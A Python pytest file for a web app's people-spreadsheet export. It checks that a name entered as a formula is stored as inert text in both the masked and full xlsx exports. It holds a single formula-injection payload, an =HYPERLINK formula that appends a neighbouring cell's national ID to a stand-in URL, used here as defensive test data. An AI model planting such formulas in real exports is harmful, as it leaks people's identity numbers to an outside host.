"""Issue 13, finding 4: a name typed as a formula reaches the people spreadsheets (masked and full) as inert text,
so «=HYPERLINK(…&D3…)» cannot send a neighbouring national ID anywhere."""

import datetime
import io
import zipfile

import pytest
from openpyxl import load_workbook

from tests.factories import make_person

MALICIOUS = '=HYPERLINK("http://x?d="&D3,"x")'


@pytest.fixture
def admin_client(client, commune_admin):
    client.force_login(commune_admin)
    return client


@pytest.fixture
def malicious_person(province):
    return make_person(province.a, MALICIOUS, datetime.date(1990, 1, 1), phone="0912345678")


def _export(client, **data):
    response = client.post("/nguoi/xuat.xlsx", data)  # a POST with CSRF (issue 13, finding 13)
    return client.get("/nguoi/xuat.xlsx", data) if response.status_code == 405 else response


def _assert_inert(response):
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(response.content)).active
    name = next(row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == MALICIOUS)
    assert (name.data_type, name.quotePrefix) == ("s", True)


def test_the_masked_people_export_writes_a_formula_name_as_text(admin_client, malicious_person):
    _assert_inert(_export(admin_client))


def test_the_full_people_export_writes_a_formula_name_as_text(admin_client, malicious_person):
    _assert_inert(_export(admin_client, day_du="1"))
